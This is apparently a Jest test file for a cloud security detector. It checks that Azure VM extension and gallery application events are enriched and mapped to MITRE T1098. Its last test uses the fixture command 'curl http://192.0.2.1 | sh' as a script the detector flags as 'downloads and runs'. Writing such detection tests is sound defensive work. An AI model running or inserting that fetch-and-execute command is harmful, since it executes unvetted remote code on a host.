import { type Azure, createAzure } from '../../src/azure/azure';
import { startTenant, type Tenant } from '../../src/demo/tenant/tenant';
import { newAlert, summarize } from '../../src/domain/alerts/alert';
import { type Execution, executionFrom } from '../../src/domain/techniques/execution';
import { loadConfig } from '../../src/load-config';
import { enrich } from '../../src/pipeline/enrich/enrich';
import { createGeoDatabases } from '../../src/runtime/geo-databases';
import { event } from '../support/event';
import { type OwnStore, startStore } from '../support/store';

let own: OwnStore;
let tenant: Tenant;
let azure: Azure;
beforeAll(async () => {
  own = await startStore();
});
afterAll(() => own.stop());
beforeEach(async () => {
  tenant = await startTenant();
  tenant.state.subscriptions.set(event().subscriptionId, 'Payments');
  azure = createAzure(
    loadConfig({ AZURE_RESOURCE_MANAGER_ENDPOINT: tenant.endpoint, AZURE_ACCESS_TOKEN: tenant.token }),
    { tlsOptions: { ca: tenant.ca }, graphEndpoint: tenant.endpoint },
  );
});
afterEach(() => tenant.stop());

const rg = `/subscriptions/${event().subscriptionId}/resourceGroups/rg/providers`;
const access = {
  publisher: 'Microsoft.OSTCExtensions',
  type: 'VMAccessForLinux',
  settings: {},
};

async function enriched(operation: string, resourceId: string, requestBody: string | null = null) {
  const time = new Date().toISOString();
  const execution = executionFrom(
    event({ operation, resourceId, status: 'succeeded', time, requestBody }),
  ) as Execution;
  const alert = newAlert('RW-1', [execution], time);
  const facts = await enrich(alert, {
    azure,
    store: own.store,
    policy: {},
    geo: createGeoDatabases(),
  });
  return { execution, facts, technique: summarize({ ...alert, facts }).technique };
}

test.each([
  ['Microsoft.Compute/virtualMachines/extensions/write', 'Microsoft.Compute/virtualMachines/vm-1'],
  [
    'Microsoft.Compute/virtualMachineScaleSets/extensions/write',
    'Microsoft.Compute/virtualMachineScaleSets/set',
  ],
  [
    'Microsoft.Compute/virtualMachineScaleSets/virtualMachines/extensions/write',
    'Microsoft.Compute/virtualMachineScaleSets/set/virtualMachines/0',
  ],
  ['Microsoft.HybridCompute/machines/extensions/write', 'Microsoft.HybridCompute/machines/arc'],
  [
    'Microsoft.ConnectedVMwarevSphere/VirtualMachines/Extensions/Write',
    'Microsoft.ConnectedVMwarevSphere/virtualMachines/esx',
  ],
])('%s is told by what the machine has', async (operation, machine) => {
  const id = `${rg}/${machine}/extensions/CustomScript`;
  tenant.resources.put(id, { properties: access });
  const { execution, facts, technique } = await enriched(operation, id);
  expect(execution.target.id).toBe(`${rg}/${machine}`);
  expect(facts.runs?.[execution.key]?.extension).toEqual({
    publisher: 'Microsoft.OSTCExtensions',
    type: 'VMAccessForLinux',
  });
  expect(technique).toMatchObject({ id: 'vm-extension', mitre: ['T1098'] });
});

test('where the extension is gone, the logged request tells; without it, the part is missing', async () => {
  const operation = 'Microsoft.Compute/virtualMachines/extensions/write';
  const id = `${rg}/Microsoft.Compute/virtualMachines/vm-1/extensions/x`;
  const body = JSON.stringify({ properties: access });
  expect((await enriched(operation, id, body)).technique.mitre).toEqual(['T1098']);
  const unread = await enriched(operation, id);
  expect(unread.technique.title).toBe('Extension');
  expect(unread.facts.missing?.map(({ what }) => what)).toContain('the script');
});

test('a version of a gallery application shows its commands', async () => {
  const id = `${rg}/Microsoft.Compute/galleries/g/applications/app/versions/1.0.0`;
  tenant.resources.put(id, {
    properties: {
      publishingProfile: {
        source: { mediaLink: 'https://x.blob.core.windows.net/app.zip' },
        manageActions: { install: 'curl http://192.0.2.1 | sh', remove: 'rm -rf app' },
      },
    },
  });
  const { facts } = await enriched('Microsoft.Compute/galleries/applications/versions/write', id);
  expect(Object.values(facts.scripts ?? {})).toMatchObject([
    { text: 'curl http://192.0.2.1 | sh\nrm -rf app', traits: [{ name: 'downloads and runs' }] },
  ]);
});
